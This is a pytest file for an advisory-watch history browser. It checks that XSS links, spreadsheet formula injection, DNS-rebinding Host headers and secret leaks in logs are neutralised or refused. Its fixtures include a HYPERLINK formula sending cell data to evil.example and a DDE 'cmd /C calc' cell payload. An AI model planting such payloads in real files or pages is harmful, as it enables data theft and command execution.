"""Hostile input to the history browser, its exports and the CLI (part of issue #17), built from the
real captures: a feed item whose link is ``javascript:``, a destination name that is a spreadsheet
formula, a non-ASCII bearer token, a database URL with a password."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi import Depends
from fastapi.testclient import TestClient
from sqlmodel import select

from advisory_watch.replay import replay_files
from advisory_watch.settings import Settings
from history.app import create_app
from history.security import token_guard
from history.web import spreadsheet_safe
from models.sessions import session_for
from models.tables import Snapshot
from tests.conftest import FEED_0107, FEED_1008, run_cli

SCRIPT_LINK = "javascript:alert(document.domain)//https://travel.state.gov/peru.html"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Sao Tome")'


def _hostile(path: Path, out: Path) -> Path:
    """The capture with Peru's link made a script and São Tomé's name made a formula."""
    text = path.read_text(encoding="utf-8")
    items = re.findall(r"<item>.*?</item>", text, flags=re.S)
    peru = next(i for i in items if '<category domain="Country-Tag">PE</category>' in i)
    text = text.replace(peru, re.sub(r"<link>[^<]*</link>", f"<link>{SCRIPT_LINK}</link>", peru))
    sao_tome = next(i for i in items if '<category domain="Country-Tag">TP</category>' in i)
    hostile_title = re.sub(r"<title>[^<-]*", f"<title>{FORMULA.replace('&', '&amp;')} ", sao_tome)
    text = text.replace(sao_tome, hostile_title)
    out.write_text(text, encoding="utf-8")
    return out


def _browser(tmp_path: Path) -> tuple[Settings, TestClient]:
    settings = Settings(home=tmp_path, database_url=f"sqlite:///{tmp_path / 'hostile.db'}")
    files = [_hostile(FEED_0107, tmp_path / "a.xml"), _hostile(FEED_1008, tmp_path / "b.xml")]
    list(replay_files("state-dept-feed", files, settings=settings))
    return settings, TestClient(create_app(settings))


def test_a_javascript_link_is_shown_as_text_never_as_a_link(tmp_path):
    settings, client = _browser(tmp_path)
    with session_for(settings) as session:
        peru = session.exec(select(Snapshot).where(Snapshot.key == "PE")).first()
    page = client.get(f"/snapshot/{peru.id}").text
    assert 'href="javascript:' not in page.lower()
    assert 'id="unsafe-url">javascript:alert(document.domain)' in page
    with session_for(settings) as session:
        france = session.exec(select(Snapshot).where(Snapshot.key == "FR")).first()
    assert 'href="https://travel.state.gov' in client.get(f"/snapshot/{france.id}").text


def test_formula_cells_are_neutralised_in_the_csv_exports(tmp_path):
    _, client = _browser(tmp_path)
    rows = list(csv.DictReader(io.StringIO(client.get("/export/changes.csv").text)))
    sao_tome = [r for r in rows if r["country"] == "ST"]
    assert sao_tome and all(r["summary"].startswith("'=HYPERLINK(") for r in sao_tome)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    assert spreadsheet_safe("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (
        spreadsheet_safe("-1") == "'-1" and spreadsheet_safe(-1) == -1 and spreadsheet_safe("Peru") == "Peru"
    )


def test_a_non_ascii_bearer_token_is_refused_not_a_500(tmp_path):
    settings, _ = _browser(tmp_path)
    guarded = TestClient(create_app(settings, dependencies=[Depends(token_guard("s3cret"))]))
    for token in ("s3cr\u00e9t", "\u043f\u0430\u0440\u043e\u043b\u044c"):
        header = "Bearer " + token
        response = guarded.get("/api/changes", headers={"Authorization": header.encode("utf-8")})
        assert response.status_code == 401
    assert guarded.get("/api/changes", headers={"Authorization": "Bearer s3cret"}).status_code == 200


def test_db_upgrade_never_prints_the_password(tmp_path, monkeypatch, postgres_url):
    secret_url = postgres_url.replace("://", "://postgres:hunter2-secret@", 1)
    monkeypatch.setenv("ADVISORY_WATCH_DATABASE_URL", secret_url)
    done = run_cli("db", "upgrade")
    assert done.returncode == 0, done.stderr
    assert "hunter2-secret" not in done.stdout + done.stderr
    assert "***" in done.stderr


def test_security_headers_host_allow_list_and_guarded_docs(tmp_path):
    settings, client = _browser(tmp_path)
    for path in ("/", "/api/changes", "/export/changes.csv", "/health", "/nowhere"):
        response = client.get(path)
        assert "script-src 'none'" in response.headers["content-security-policy"], path
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["referrer-policy"] == "no-referrer"
    # A Host allow-list, as `advisory-watch serve` installs it even on loopback.
    local = TestClient(
        create_app(settings, allowed_hosts=["127.0.0.1", "localhost"]), base_url="http://127.0.0.1"
    )
    assert local.get("/api/changes").status_code == 200
    assert local.get("/api/changes", headers={"Host": "rebind.evil.example"}).status_code == 400
    # With a token, nothing answers without it: not the API, not the schema or the docs.
    guarded = TestClient(create_app(settings, dependencies=[Depends(token_guard("s3cret"))]))
    for path in ("/openapi.json", "/docs", "/redoc"):
        assert guarded.get(path).status_code in (401, 404), path
        assert guarded.get(path, headers={"Authorization": "Bearer s3cret"}).status_code == 404, path
    assert guarded.get("/api/changes").status_code == 401


BAD_REQUESTS = [
    "/api/changes?severity=bogus",
    "/export/changes.csv?severity=bogus",
    "/feeds/changes.atom?severity=bogus",
    "/api/changes?since=not-a-date",
    "/?days=99999999999",
    "/?level=9",
    "/snapshot/99999999999999999999",
    "/snapshot/0",
    "/diff/1/99999999999999999999",
]


@pytest.mark.parametrize("path", BAD_REQUESTS)
def test_bad_input_is_a_422_with_its_reason_never_a_500(tmp_path, path):
    _, client = _browser(tmp_path)
    response = client.get(path)
    assert response.status_code == 422, (path, response.status_code, response.text[:300])
    assert response.json()["detail"]


@pytest.mark.parametrize(
    "path", ["/api/changes", "/api/snapshots", "/export/changes.csv", "/export/snapshots.csv"]
)
def test_a_date_without_a_timezone_is_utc(tmp_path, path):
    _, client = _browser(tmp_path)
    naive = client.get(path, params={"since": "2025-10-01"})
    aware = client.get(path, params={"since": "2025-10-01T00:00:00+00:00"})
    assert naive.status_code == aware.status_code == 200
    assert naive.content == aware.content


def test_alerts_flush_tells_the_truth_about_leases_and_refusals(slack, monkeypatch, tmp_path):
    from datetime import UTC, datetime

    from sqlmodel import update

    from models.tables import Delivery
    from tests.scenarios.test_slack import _alerts
    from tests.support.fake_slack import TOKEN

    with session_for() as session:
        _alerts(session, 6, keys=6)
    # A broken token: Slack refuses every alert; all six (and the ops notice) are still waiting.
    monkeypatch.setenv("ADVISORY_WATCH_SLACK_TOKEN", "xoxb-broken")
    jsonl = tmp_path / "alerts.jsonl"
    monkeypatch.setenv("ADVISORY_WATCH_ALERTS_JSONL", str(jsonl))
    refused = run_cli("alerts", "flush")
    assert refused.returncode == 1
    assert re.search(r"\b(6|7) still pending, 0 leased", refused.stderr), refused.stderr
    # Ops see the broken token without Slack: one JSON notice on the console and in the JSON file,
    # and on the health page and `advisory-watch health`.
    notices = [line for line in refused.stderr.splitlines() if '"slack_delivery_failed"' in line]
    assert len(notices) == 1 and "invalid_auth" in notices[0]
    assert "slack_delivery_failed" in jsonl.read_text(encoding="utf-8")
    shown = run_cli("health")
    assert shown.returncode == 1 and re.search(r"slack: .*invalid_auth", shown.stdout), shown.stdout
    with session_for() as session:
        from advisory_watch.drift import report

        assert "invalid_auth" in report(session, "slack")["last_error"]
    # Another worker holds two deliveries under a fresh lease: not delivered, and said so.
    monkeypatch.setenv("ADVISORY_WATCH_SLACK_TOKEN", TOKEN)
    with session_for() as session:
        ids = session.exec(select(Delivery.id).where(Delivery.status == "pending").limit(2)).all()
        session.exec(
            update(Delivery)
            .where(Delivery.id.in_(ids))
            .values(status="sending", claim="other-worker", claimed_at=datetime.now(UTC))
        )
        session.commit()
    leased = run_cli("alerts", "flush")
    assert leased.returncode == 1, leased.stderr
    assert "0 still pending, 2 leased" in leased.stderr, leased.stderr


def test_no_command_prints_or_logs_a_secret_even_at_debug(slack, feed_server, postgres_url, monkeypatch):
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from tests.support.fake_slack import TOKEN

    class Hook(BaseHTTPRequestHandler):
        def log_message(self, *args):
            return

        def do_POST(self):  # noqa: N802
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

    password = "hunter2-db-secret"
    ui_token = "ui-token-very-secret"
    monkeypatch.setenv("ADVISORY_WATCH_LOG_LEVEL", "DEBUG")
    monkeypatch.setenv(
        "ADVISORY_WATCH_DATABASE_URL", postgres_url.replace("://", f"://postgres:{password}@", 1)
    )
    monkeypatch.setenv("ADVISORY_WATCH_UI_TOKEN", ui_token)
    commands = [
        ("db", "upgrade"),
        ("sources",),
        ("run", "--source", "state-dept-feed"),
        ("alerts", "test"),
        ("alerts", "flush"),
        ("alerts", "pending"),
        ("health",),
        ("extract", "state-dept-feed", str(FEED_0107)),
        ("replay", "state-dept-feed", str(FEED_1008)),
        ("reprocess", "--source", "state-dept-feed"),
    ]
    outputs = [run_cli(*command) for command in commands]
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hook)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    webhook = f"http://127.0.0.1:{server.server_address[1]}/services/T0/B0/webhook-path-secret"
    try:
        monkeypatch.delenv("ADVISORY_WATCH_SLACK_TOKEN")
        monkeypatch.setenv("ADVISORY_WATCH_SLACK_WEBHOOK_URL", webhook)
        outputs.append(run_cli("alerts", "test"))
    finally:
        server.shutdown()
    everything = "\n".join(o.stdout + o.stderr for o in outputs)
    assert "DEBUG" in everything  # the commands did log at DEBUG (slack_sdk's request lines among them)
    assert [o.returncode for o in outputs[:2]] == [0, 0], everything[-2000:]
    for secret in (TOKEN, password, ui_token, "webhook-path-secret"):
        assert secret not in everything, secret
